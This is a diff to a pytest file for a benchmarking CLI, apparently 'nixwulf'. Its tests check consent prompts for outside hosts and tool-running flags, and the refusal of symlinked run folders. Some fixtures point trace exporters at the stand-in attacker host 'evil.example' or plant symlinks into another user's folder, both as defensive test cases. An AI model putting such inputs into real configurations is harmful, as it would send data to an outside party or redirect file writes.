@@ -8,12 +8,12 @@ from click.testing import CliRunner
 
 from nixwulf.cli.main import cli
 from nixwulf.cli.run_folder import own_folder
-from nixwulf.core.errors import InputError
+from nixwulf.core.errors import InputError, NixwulfError
 from nixwulf.inventory.cluster import load_cluster
 from nixwulf.results.record import save
-from nixwulf.sweep import consent
+from nixwulf.sweep import consent, session
 from nixwulf.sweep.consent import Consent
-from nixwulf.sweep.plan import make_plan, parse_sweep, save_plan
+from nixwulf.sweep.plan import make_plan, parse_sweep, plan_to_resume, save_plan
 from record_factory import metric, ok
 
 CLUSTER = """
@@ -38,12 +38,13 @@ def own(tmp_path):
     return path
 
 
-def plan_of(own, **parameters):
+def plan_of(own, engine="endpoint", **parameters):
+    model = {"served": "m"} if engine == "endpoint" else {"path": "/models/m.gguf"}
     document = {
         "name": "theirs",
-        "models": {"m": {"served": "m"}},
+        "models": {"m": model},
         "matrix": {
-            "engine": ["endpoint"],
+            "engine": [engine],
             "benchmark": ["serve"],
             "model": ["m"],
             "nodes": [1],
@@ -99,6 +100,37 @@ def test_a_variable_of_this_environment_is_taken_only_by_its_name(own):
     consent.require(plan, Consent(secrets=frozenset({"OPENAI_API_KEY"})))
 
 
+@pytest.mark.parametrize(
+    "parameters",
+    [
+        {"arguments": "--otlp-traces-endpoint http://evil.example:4317"},
+        {"environment": {"OTEL_EXPORTER_OTLP_ENDPOINT": "http://evil.example:4317"}},
+    ],
+)
+def test_an_address_in_arguments_or_variables_is_asked_only_where_it_is_allowed(own, parameters):
+    plan = plan_of(own, "llama.cpp", **parameters)
+    with pytest.raises(InputError) as refusal:
+        consent.require(plan, Consent())
+    assert "--allow-url evil.example'" in refusal.value.message
+    consent.require(plan, Consent(hosts=frozenset({"evil.example"})))
+
+
+def test_a_text_that_only_looks_like_an_address_is_asked_for_as_it_is(own):
+    plan = plan_of(own, "llama.cpp", arguments="--x http://[::::]/")
+    assert consent.needed(plan).hosts == {"[::::]"}
+
+
+def test_what_runs_code_is_named_before_it_runs_and_in_a_dry_run(own, tmp_path, monkeypatch):
+    plan = plan_of(own, "llama.cpp", arguments="--tools all")
+    assert [line.split()[0] for line in consent.active(plan)] == ["--tools"]
+    save_plan(plan, tmp_path / "plan.json")
+    argv = ["bench", "--resume", str(tmp_path)]
+    shown = CliRunner().invoke(cli, [*argv, "--dry-run"])
+    assert "--tools runs" in shown.output
+    monkeypatch.setattr(session, "run_plan", lambda *_, **__: NixwulfError("no run"))
+    assert "--tools runs" in CliRunner().invoke(cli, [*argv, "--allow-url", "a.invalid"]).stderr
+
+
 def test_a_key_that_crosses_a_network_by_http_is_a_warning(own):
     key = {"OPENAI_API_KEY": None}
     plans = [
@@ -129,6 +161,42 @@ def test_the_folder_of_somebody_elses_run_takes_no_key(own, tmp_path, monkeypatc
     assert refused.exit_code == 2
     assert "--allow-secrets OPENAI_API_KEY" in refused.output
     assert "--allow-url evil.example" in refused.output
+
+
+LINKED = ("raw", "records", "references", ".lock", "raw/RUN", "raw/RUN/answers.jsonl", "records/x")
+
+
+@pytest.mark.parametrize("command", ["bench", "reproduce"])
+@pytest.mark.parametrize("name", LINKED)
+def test_a_link_in_the_folder_of_a_run_is_refused_before_anything_starts(
+    own, tmp_path, name, command
+):
+    theirs, mine = tmp_path / "stranger", tmp_path / "mine"
+    theirs.mkdir()
+    mine.mkdir()
+    plan = plan_of(own, url="http://127.0.0.1:1")
+    save_plan(plan, theirs / "plan.json")
+    link = theirs / name.replace("RUN", plan.cases[0].run_name(0))
+    link.parent.mkdir(parents=True, exist_ok=True)
+    link.symlink_to(mine)
+    refused = CliRunner().invoke(cli, [command, "--resume", str(theirs)])
+    assert refused.exit_code == 2, refused.output
+    assert str(link) in refused.output.replace("\n", "")
+    assert not any(mine.iterdir())
+
+
+def test_what_cannot_be_cleared_of_an_unfinished_run_ends_the_sweep(tmp_path):
+    (tmp_path / "raw").write_text("no folder")
+    with pytest.raises(NixwulfError, match=shlex.quote(str(tmp_path / "raw"))):
+        session.clear(tmp_path / "raw")
+    session.clear(tmp_path / "nothing")
+
+
+def test_a_run_folder_that_is_reached_by_a_link_goes_on(own, tmp_path):
+    (tmp_path / "disk").mkdir()
+    (tmp_path / "run").symlink_to("disk")
+    save_plan(plan_of(own, url="http://127.0.0.1:1"), tmp_path / "run" / "plan.json")
+    assert plan_to_resume(tmp_path / "run", None).cases
 
 
 METER = 'meter = { kind = "tasmota", url = "http://127.0.0.2:%s" }\n'
